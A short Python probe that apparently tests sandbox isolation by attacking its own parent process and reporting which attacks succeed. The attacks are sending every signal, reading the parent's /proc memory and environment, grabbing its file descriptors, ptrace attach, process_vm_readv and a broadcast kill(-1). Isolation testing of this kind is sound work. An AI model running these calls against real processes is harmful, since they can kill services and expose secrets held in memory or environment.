"""Attacks the process that started it, its runner: signals, memory, descriptors, tracing. Prints what worked."""
# Plain system calls, as an attacker writes them.
# ruff: noqa: PERF401, PTH123, PTH208, SIM105

import ctypes
import json
import os
import signal

runner = os.getppid()
libc = ctypes.CDLL(None, use_errno=True)
worked = []
for number in set(signal.valid_signals()) - {signal.SIGCHLD}:
    try:
        os.kill(runner, number)
    except OSError:
        continue
for name in ("mem", "environ", "maps", "auxv", "syscall", "stack"):
    try:
        with open(f"/proc/{runner}/{name}", "r+b" if name == "mem" else "rb") as file:
            file.read(1)
        worked.append(name)
    except OSError:
        continue
for name in ("fd", "map_files", "cwd", "root", "ns"):
    try:
        os.listdir(f"/proc/{runner}/{name}")
        worked.append(name)
    except OSError:
        continue
for fd in range(64):
    for attempt in (os.readlink, lambda path: os.close(os.open(path, os.O_RDWR))):
        try:
            attempt(f"/proc/{runner}/fd/{fd}")
            worked.append(f"fd {fd}")
        except OSError:
            continue
pidfd = os.pidfd_open(runner)
buffer = ctypes.create_string_buffer(8)
iovec = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
remote = (ctypes.c_size_t * 2)(0x400000, 8)
number = {"x86_64": (438, 101, 310), "aarch64": (438, 117, 270)}[os.uname().machine]
for fd in range(64):
    if libc.syscall(number[0], pidfd, fd, 0) >= 0:
        worked.append(f"pidfd_getfd {fd}")
if libc.syscall(number[1], 16, runner, 0, 0) == 0:
    worked.append("ptrace")
if libc.syscall(number[2], runner, ctypes.byref(iovec), 1, ctypes.byref(remote), 1, 0) >= 0:
    worked.append("process_vm_readv")
try:
    os.kill(-1, signal.SIGCONT)
except OSError:
    pass
print(json.dumps(worked))
